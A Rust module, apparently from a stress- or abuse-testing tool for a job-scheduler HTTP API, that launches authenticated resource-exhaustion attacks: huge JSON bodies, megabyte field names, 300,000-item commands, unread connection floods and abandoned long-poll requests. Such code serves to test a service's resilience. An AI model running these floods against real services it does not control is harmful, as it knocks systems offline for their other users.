//! What somebody can send who has an account, and no good intentions.

use std::time::Duration;

use anyhow::Result;
use reqwest::RequestBuilder;
use serde_json::json;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use crate::{Target, client};

/// Connections of the one who does not read: a few less than an address may have.
const UNREAD: usize = 500;

/// Starts all of it; makes the jobs that it lists before.
pub(crate) async fn attack(target: &Target, attacks: &mut JoinSet<Result<String>>) -> Result<()> {
    let client = e2e::Client::new(&target.origin, &target.token);
    // A control character takes six bytes of JSON.
    let large = json!({
        "name": "large", "docker_image_repo": "r.io/x",
        "command": ["\u{1}".repeat(60_000)], "runtime_vars": { "V": "\u{1}".repeat(60_000) },
    });
    let mut job = 0;
    for _ in 0..30 {
        let made = client
            .send("POST", "/v1/jobs", Some(large.clone()), 201)
            .await?;
        job = made["id"].as_i64().unwrap_or_default();
    }
    let exec = client.trigger(job).await?;
    for _ in 0..4 {
        attacks.spawn(lists(target.clone()));
        attacks.spawn(long_names(target.clone()));
    }
    attacks.spawn(empty_words(target.clone()));
    let path = format!("/v1/jobs/{job}/execs/{}?wait=60s", exec.id);
    attacks.spawn(waits(target.clone(), path));
    Ok(())
}

fn with_token(request: RequestBuilder, target: &Target) -> RequestBuilder {
    request
        .header("authorization", format!("Token {}", target.token))
        .header("content-type", "application/json")
}

/// The largest lists there are.
async fn lists(target: Target) -> Result<String> {
    let (http, mut sent, mut bytes) = (client()?, 0_u64, 0);
    while !target.is_over() {
        let list = http.get(format!("{}/v1/jobs?page_size=100", target.origin));
        if let Ok(answer) = with_token(list, &target).send().await {
            sent += 1;
            bytes += answer.bytes().await.map_or(0, |bytes| bytes.len()) as u64;
        }
    }
    let mean = bytes / sent.max(1) / 1024;
    Ok(format!("{sent} lists of the largest jobs, {mean} KiB each"))
}

/// The largest lists, from who reads nothing of them: alone, because it holds up what
/// else its account asks.
pub(crate) async fn leave_unread(target: Target) -> Result<String> {
    let head = "GET /v1/jobs?page_size=100 HTTP/1.1\r\nHost: x\r\nAuthorization: Token ";
    let request = format!("{head}{}\r\n\r\n", target.token);
    let mut unread = Vec::new();
    while !target.is_over() {
        if unread.len() < UNREAD {
            let mut stream = TcpStream::connect(target.address()).await?;
            stream.write_all(request.as_bytes()).await?;
            unread.push(stream);
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    Ok(format!("{} lists that nobody read", unread.len()))
}

/// A name of a megabyte, which is no field of a job.
async fn long_names(target: Target) -> Result<String> {
    let body = format!("{{\"{}\":1}}", "a".repeat(1_000_000));
    let (http, mut sent) = (client()?, 0);
    while !target.is_over() {
        let post = http.post(format!("{}/v1/jobs", target.origin));
        let _ = with_token(post, &target).body(body.clone()).send().await;
        sent += 1;
    }
    Ok(format!("{sent} names of a megabyte"))
}

/// A command of words that are free but for their number.
async fn empty_words(target: Target) -> Result<String> {
    let body = json!({
        "name": "empty", "docker_image_repo": "r.io/x", "command": vec![""; 300_000],
    });
    let (http, body, mut sent) = (client()?, body.to_string(), 0);
    while !target.is_over() {
        let post = http.post(format!("{}/v1/jobs", target.origin));
        let _ = with_token(post, &target).body(body.clone()).send().await;
        sent += 1;
    }
    Ok(format!("{sent} commands of 300,000 words"))
}

/// Requests that wait for a minute, from who hangs up at once.
async fn waits(target: Target, path: String) -> Result<String> {
    let head = format!("GET {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Token ");
    let (request, mut sent) = (format!("{head}{}\r\n\r\n", target.token), 0);
    while !target.is_over() {
        let mut stream = TcpStream::connect(target.address()).await?;
        stream.write_all(request.as_bytes()).await?;
        sent += 1;
        if sent % 100 == 0 {
            tokio::time::sleep(Duration::from_secs(1)).await;
        }
    }
    Ok(format!("{sent} waits that were hung up"))
}
